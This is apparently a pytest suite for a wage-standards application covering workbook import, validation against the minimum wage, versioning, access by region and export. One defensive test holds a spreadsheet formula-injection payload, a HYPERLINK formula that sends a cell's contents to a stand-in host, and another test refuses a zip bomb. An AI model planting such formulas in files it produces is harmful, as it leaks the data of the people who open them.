"""Standard pages: importing a workbook (or refusing it, row by row, saving nothing), the table by
job category with the minimum wage it is held against, versions, and who may see and import."""

import re
from datetime import date

import pytest
from sqlmodel import func, select

from accounts.models import Role
from standards.models import SectorStandard, StandardItem
from tests.standards.uploads import (
    GOOD,
    form,
    minimum_checks,
    post,
    workbook,
    workbook_problems,
)
from tests.two_browsers import hidden, page_of


def test_a_federation_imports_its_standard_and_reads_it_by_job_category(
    client, login, session, chair
):
    login(chair)
    response = post(client, workbook(GOOD))
    assert response.status_code == 302
    standard = session.exec(select(SectorStandard)).one()
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "厨师长" in page and "2,600.00" in page and "餐具清洗员" in page
    # the assumption it holds hourly rates to is shown: Guangzhou's 2,500 ÷ 174 hours = 14.37
    # for full-time work, the published 23.70 for part-time work
    assumption = page.split('data-testid="minimum-assumption"', 1)[1].split("</ul>", 1)[0]
    assert "14.37 元/小时" in assumption and "174" in assumption and "21.75" in assumption
    assert "23.70 元/小时" in assumption and "工时工价" in assumption
    assert standard.effective_from == date(2026, 1, 1)


@pytest.mark.parametrize("new_version", [False, True], ids=["new standard", "new version"])
def test_a_standard_sent_twice_is_saved_once(client, login, session, chair, new_version):
    """A double click on Import sends the form twice: one standard (the second would overlap
    the first, or replace a version already replaced), and the second post leads to it."""
    login(chair)
    path = "/standards/new"
    if new_version:
        assert post(client, workbook(GOOD)).status_code == 302
        path = f"/standards/{session.exec(select(SectorStandard.id)).one()}/new-version"
    token = hidden(client.get(path), "form_token")
    sent = {"path": path, "effective_from": "2027-01-01", "form_token": token}
    first, second = post(client, workbook(GOOD), **sent), post(client, workbook(GOOD), **sent)
    assert first.status_code == second.status_code == 302
    assert second.headers["Location"] == first.headers["Location"]
    count = select(func.count()).select_from(SectorStandard)
    assert session.exec(count).one() == (2 if new_version else 1)
    shown = page_of(client.get(first.headers["Location"]))
    assert "此表单提交了两次，只在第一次保存了一份。" in shown


def test_a_workbook_with_bad_rows_is_refused_row_by_row_and_nothing_is_saved(
    client, login, session, chair
):
    login(chair)
    rows = [
        *GOOD,
        ("点心师", "劳动定额", 40, ""),
        ("", "周工作时间", 170, "小时/周"),
        ("钟点工", "工时工价", 20, "元/月"),
        ("点心师", "计件单价", "三角", "元/件"),
        ("洗碗工", "月工资标准", -1, "元/月"),
    ]
    response = post(client, workbook(rows, header=("岗位工种", "项目", "数值", "单位")))
    assert response.status_code == 400
    text = response.get_data(as_text=True)
    problems = workbook_problems(text)
    assert len(problems) == 5  # one per bad row, the good rows 2 to 4 not blamed
    # each names its row as Excel numbers it, and what the row's kind allows
    quota, hours, hourly, piece, negative = problems
    assert "第 5 行" in quota and "劳动定额" in quota and "件/天" in quota and "件/小时" in quota
    assert "第 6 行" in hours and "周工作时间" in hours and "168" in hours
    assert "第 7 行" in hourly and "工时工价" in hourly and "元/小时" in hourly
    assert "第 8 行" in piece and "第 9 行" in negative
    assert session.exec(select(StandardItem)).first() is None
    assert 'value="海珠区餐饮行业工资标准"' in text  # the rest of the input kept


def test_a_quota_marked_higher_is_better_is_refused_saying_which_way_is_better(
    client, login, session, chair
):
    login(chair)
    rows = [("点心师", "劳动定额", 40, "件/天", "越高越好")]
    response = post(client, workbook(rows, header=("岗位工种", "项目", "数值", "单位", "方向")))
    assert response.status_code == 400
    (problem,) = workbook_problems(response.get_data(as_text=True))
    assert "劳动定额" in problem and "越低越好" in problem
    assert session.exec(select(StandardItem)).first() is None


def test_a_standard_below_the_minimum_wage_is_refused_r14(client, login, session, chair):
    login(chair)
    rows = [("餐具清洗员", "月工资标准", 2499.99, "元/月")]
    response = post(client, workbook(rows))
    assert response.status_code == 400
    text = response.get_data(as_text=True)
    assert "R14" in text and "餐具清洗员" in text and "0.01" in text
    assert session.exec(select(SectorStandard)).first() is None


@pytest.mark.parametrize("payload", [b"hello", b"\x89PNG\r\n\x1a\n" + b"0" * 100])
def test_a_file_that_is_not_a_workbook_is_refused(client, login, chair, payload):
    login(chair)
    response = post(client, payload)
    assert response.status_code == 400
    assert 'data-field-error="workbook"' in response.get_data(as_text=True)


def test_a_new_version_supersedes_the_old(client, login, session, chair):
    login(chair)
    first = post(client, workbook(GOOD))
    first_id = int(first.headers["Location"].rsplit("/", 1)[1])
    rows = [("厨师长", "月工资标准", 2800, "元/月"), ("餐具清洗员", "月工资标准", 2650, "元/月")]
    second = post(
        client,
        workbook(rows),
        path=f"/standards/{first_id}/new-version",
        effective_from="2027-01-01",
    )
    assert second.status_code == 302
    old = session.get(SectorStandard, first_id)
    assert old.status.value == "superseded" and old.effective_to == date(2026, 12, 31)
    page = client.get(f"/standards/{first_id}").get_data(as_text=True)
    assert "2,600.00" in page  # the old version stays readable


def test_an_enterprise_reads_its_sector_standard_but_cannot_import(
    client, login, session, chair, make_user, make_enterprise
):
    login(chair)
    location = post(client, workbook(GOOD)).headers["Location"]
    client.post("/logout")
    manager = make_user(Role.ENTERPRISE_MANAGER, make_enterprise())
    session.commit()
    login(manager)
    assert client.get(location).status_code == 200
    assert client.get("/standards/new").status_code == 403
    assert post(client, workbook(GOOD)).status_code == 403


def test_an_organisation_of_another_area_does_not_see_the_standard(
    client, login, session, chair, make_user, make_enterprise
):
    login(chair)
    location = post(client, workbook(GOOD)).headers["Location"]
    client.post("/logout")
    shenzhen = make_user(Role.ENTERPRISE_MANAGER, make_enterprise(region_code="440305"))
    session.commit()
    login(shenzhen)
    assert client.get(location).status_code == 404
    listing = client.get("/standards")
    assert listing.status_code == 200
    assert "海珠区餐饮行业工资标准" not in listing.get_data(as_text=True)


@pytest.mark.parametrize("path", ["/standards", "/standards/1", "/standards/new"])
def test_anonymous_users_are_sent_to_log_in(client, path):
    response = client.get(path)
    assert response.status_code == 302 and "/login" in response.headers["Location"]


def test_the_pay_floor_chart_comes_as_png_and_svg_and_is_described(client, login, chair):
    login(chair)
    location = post(client, workbook(GOOD)).headers["Location"]
    png = client.get(f"{location}/pay-floors.png")
    assert png.status_code == 200 and png.data.startswith(b"\x89PNG")
    svg = client.get(f"{location}/pay-floors.svg")
    assert svg.status_code == 200 and svg.content_type.startswith("image/svg+xml")
    assert client.get(f"{location}/pay-floors.gif").status_code == 404
    page = client.get(location).get_data(as_text=True)
    assert "2 个岗位工种" in page  # the alt text gives the chart's figures in words


def test_a_chart_of_a_standard_the_viewer_may_not_see_is_not_found(
    client, login, session, chair, make_user, make_enterprise
):
    login(chair)
    location = post(client, workbook(GOOD)).headers["Location"]
    client.post("/logout")
    login(make_user(Role.ENTERPRISE_MANAGER, make_enterprise(region_code="440305")))
    assert client.get(f"{location}/pay-floors.png").status_code == 404


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_an_exported_standard_imports_again_as_the_same_items(client, login, session, chair, fmt):
    """What a federation exports, in Chinese, is what it can import back (as a new version)."""
    from standards.workbooks import read_standard_workbook

    login(chair)
    location = post(client, workbook(GOOD)).headers["Location"]
    exported = client.get(f"{location}.{fmt}")
    assert exported.status_code == 200
    assert "attachment" in exported.headers["Content-Disposition"]
    if fmt == "csv":
        text = exported.data.decode("utf-8-sig")
        assert exported.data.startswith(b"\xef\xbb\xbf")  # Excel in China needs the BOM
        assert "厨师长,月工资标准,2600" in text
        return
    parsed = read_standard_workbook(exported.data)
    assert parsed.errors == []
    assert [(i.job_category, i.kind.value, i.value) for i in parsed.items] == [
        ("厨师长", "monthly_pay_floor", 2600),
        ("餐具清洗员", "monthly_pay_floor", 2500),
        ("", "annual_rise", 9),
    ]


def test_a_zip_bomb_is_refused_as_too_large_when_unpacked(client, login, session, chair):
    from tests.uploads.files import zip_bomb

    login(chair)
    bomb = zip_bomb(workbook(GOOD), 33 * 1024 * 1024)
    assert len(bomb) < 1024 * 1024
    response = post(client, bomb)
    assert response.status_code == 400
    (problem,) = workbook_problems(response.get_data(as_text=True))
    assert "解压后" in problem and "32 MB" in problem
    assert session.exec(select(SectorStandard)).first() is None


LINK = '=HYPERLINK("http://e.example/?"&A3,"点此")'  # within a job category's 50 characters


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_a_name_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(
    client, login, session, chair, fmt
):
    """A standard and a job category named like a formula are exported as the text they are;
    the figure beside them stays a number."""
    import csv
    import io

    from openpyxl import Workbook, load_workbook

    from spreadsheets.writing import put_text, workbook_bytes

    book = Workbook()
    book.active.append(["岗位工种", "项目", "数值", "单位"])
    put_text(book.active, 2, 1, LINK)  # typed into the sheet as text, as a user would
    for column, value in enumerate(["月工资标准", 2600, "元/月"], start=2):
        book.active.cell(2, column, value)
    login(chair)
    location = post(client, workbook_bytes(book), title=LINK).headers["Location"]
    exported = client.get(f"{location}.{fmt}")
    assert exported.status_code == 200
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(exported.data.decode("utf-8-sig"), newline="")))
        assert rows[1][:2] == ["'" + LINK, "月工资标准"]
        assert float(rows[1][2]) == 2600  # a figure, not text behind an apostrophe
        return
    sheet = load_workbook(io.BytesIO(exported.data)).active
    assert (sheet["A1"].value, sheet["A1"].data_type) == (LINK, "s")  # the title
    assert (sheet["A3"].value, sheet["A3"].data_type) == (LINK, "s")  # the job category
    assert (sheet["C3"].value, sheet["C3"].data_type) == (2600, "n")


def _item_fields(session, location) -> dict[str, int]:
    standard_id = int(location.rsplit("/", 1)[1])
    items = session.exec(select(StandardItem).where(StandardItem.standard_id == standard_id)).all()
    return {item.job_category or "all": item.id for item in items}


def test_entered_terms_are_judged_item_by_item_in_words(client, login, session, chair):
    login(chair)
    location = post(client, workbook(GOOD)).headers["Location"]
    ids = _item_fields(session, location)
    sent = {f"item_{ids['厨师长']}": "2300", f"item_{ids['餐具清洗员']}": "2500"}
    response = client.post(f"{location}/compare", data=sent)
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    assert "低于标准" in text  # 厨师长 2300 < 2600, said in words
    assert "-300.00" in text and "(-11.5%)" in text
    assert "达到标准" in text  # 餐具清洗员 equal
    assert "年增长幅度" in text  # the rise was left blank: listed as not set
    below = [line for state, line in minimum_checks(text) if state == "below"]
    assert len(below) == 1  # R14: the chef's 2300 is 200 below 2500
    assert "厨师长" in below[0] and "2,500.00 元/月" in below[0] and "200.00" in below[0]


def test_a_figure_that_is_not_a_number_is_shown_beside_its_item(client, login, session, chair):
    login(chair)
    location = post(client, workbook(GOOD)).headers["Location"]
    ids = _item_fields(session, location)
    for bad in ("abc", "NaN", "-5"):
        response = client.post(f"{location}/compare", data={f"item_{ids['厨师长']}": bad})
        assert response.status_code == 400
        text = response.get_data(as_text=True)
        assert f'data-field-error="item_{ids["厨师长"]}"' in text
        assert f'value="{bad}"' in text  # the input is kept


def test_leaving_items_blank_is_not_reported_as_falling_short(client, login, session, chair):
    login(chair)
    location = post(client, workbook(GOOD)).headers["Location"]
    standard_id = int(location.rsplit("/", 1)[1])
    chef = session.exec(
        select(StandardItem).where(
            StandardItem.standard_id == standard_id, StandardItem.job_category == "厨师长"
        )
    ).one()
    text = client.post(f"{location}/compare", data={f"item_{chef.id}": "3300"}).get_data(
        as_text=True
    )
    assert "低于标准。" not in text
    assert "填写的项目均未低于标准；标准中有 2 个项目未填写。" in text


def test_a_future_version_leaves_the_current_one_in_force_until_it_begins(
    client, login, session, chair
):
    login(chair)
    today = date.today()
    start = today.replace(year=today.year - 1).isoformat()
    first = post(client, workbook(GOOD), effective_from=start).headers["Location"]
    first_id = int(first.rsplit("/", 1)[1])
    later = today.replace(year=today.year + 1).isoformat()
    response = post(
        client, workbook(GOOD), path=f"/standards/{first_id}/new-version", effective_from=later
    )
    assert response.status_code == 302
    page = client.get(first).get_data(as_text=True)
    assert "执行中" in page and "已被新版本替代" not in page
    assert "尚未生效" in client.get(response.headers["Location"]).get_data(as_text=True)


def test_the_annual_rise_is_drawn_against_the_wage_guideline(client, login, session, chair):
    from decimal import Decimal

    from standards.models import WageGuideline

    session.add(
        WageGuideline(
            region_code="440100",
            year=2026,
            lower=Decimal("3"),
            baseline=Decimal("6"),
            upper=Decimal("9"),
        )
    )
    session.commit()
    login(chair)
    location = post(client, workbook(GOOD)).headers["Location"]
    page = client.get(location).get_data(as_text=True)
    assert "年增长幅度" in page and "9%" in page and "6%" in page  # the table beneath
    chart = client.get(f"{location}/rises.png")
    assert chart.status_code == 200 and chart.data.startswith(b"\x89PNG")
    assert client.get(f"{location}/rises.svg").content_type.startswith("image/svg+xml")


@pytest.mark.parametrize("megabytes", [None, 50], ids=["limit+1", "50MB"])
def test_an_upload_above_the_request_limit_is_refused_with_a_page_saying_so(
    client, login, app, session, chair, megabytes
):
    login(chair)
    size = megabytes * 1024 * 1024 if megabytes else app.config["MAX_CONTENT_LENGTH"] + 1
    response = client.post(
        "/standards/new",
        data=form(b"0" * size),
        content_type="multipart/form-data",
        headers={"Referer": "http://localhost/standards/new"},
    )
    assert response.status_code == 413
    page = response.get_data(as_text=True)
    assert "上传的文件过大" in page
    assert f"{app.config['MAX_CONTENT_LENGTH'] // 1048576} MB" in page  # the limit is named
    assert 'href="http://localhost/standards/new"' in page  # and the way back to the form
    assert session.exec(select(SectorStandard)).first() is None


def test_a_workbook_above_five_megabytes_is_refused_beside_the_field(client, login, chair):
    login(chair)
    response = post(client, b"0" * (5 * 1024 * 1024 + 1))
    assert response.status_code == 400
    assert "工作簿不能超过 5 MB" in response.get_data(as_text=True)


def test_an_overlapping_standard_is_refused_beside_its_start_date(client, login, session, chair):
    login(chair)
    assert post(client, workbook(GOOD), effective_to="2026-12-31").status_code == 302
    response = post(client, workbook(GOOD), effective_from="2026-06-01", title="又一个标准")
    assert response.status_code == 400
    text = response.get_data(as_text=True)
    error = text.split('data-field-error="effective_from"', 1)[1].split("</div>", 1)[0]
    assert "2026-01-01" in error and "2026-12-31" in error
    assert 'value="又一个标准"' in text  # input kept
    assert len(session.exec(select(SectorStandard)).all()) == 1


def test_a_figure_above_what_its_kind_can_be_is_refused_beside_its_item(
    client, login, session, chair
):
    login(chair)
    location = post(client, workbook(GOOD)).headers["Location"]
    ids = _item_fields(session, location)
    field = f"item_{ids['all']}"  # the annual rise, at most 100 %
    response = client.post(f"{location}/compare", data={field: "150"})
    assert response.status_code == 400
    text = response.get_data(as_text=True)
    error = text.split(f'data-field-error="{field}"', 1)[1].split("</div>", 1)[0]
    assert "100" in error
    assert 'value="150"' in text
    assert client.post(f"{location}/compare", data={field: "100"}).status_code == 200


def test_the_pay_floor_chart_has_its_figures_in_a_table_beneath(client, login, chair):
    login(chair)
    location = post(client, workbook(GOOD)).headers["Location"]
    page = client.get(location).get_data(as_text=True)
    chart = page.index("/pay-floors.png")
    table = page.index('data-testid="pay-floor-figures"')
    assert chart < table  # beneath the chart
    figures = page[table:].split("</table>", 1)[0]
    rows = [" ".join(re.sub(r"<[^>]+>", " ", row).split()) for row in figures.split("<tr>")[2:]]
    # each floor, and how far it is over Guangzhou's minimum of 2,500
    assert rows == ["厨师长 2,600.00 元/月 +100.00", "餐具清洗员 2,500.00 元/月 +0.00"]


def test_saving_and_downloading_a_standard_are_in_the_audit_trail(client, login, session, chair):
    from audit.models import AuditEntry

    login(chair)
    location = post(client, workbook(GOOD)).headers["Location"]
    standard_id = int(location.rstrip("/").rsplit("/", 1)[1])
    assert client.get(f"{location}.csv").status_code == 200
    rows = session.exec(
        select(AuditEntry.action, AuditEntry.actor_id, AuditEntry.details)
        .where(AuditEntry.subject_type == "sector_standard")
        .where(AuditEntry.subject_id == standard_id)
        .order_by(AuditEntry.id)
    ).all()
    assert [(action, actor) for action, actor, _ in rows] == [
        ("standard_saved", chair.id),
        ("standard_exported", chair.id),
    ]
    assert rows[1][2]["what"].endswith(".csv")
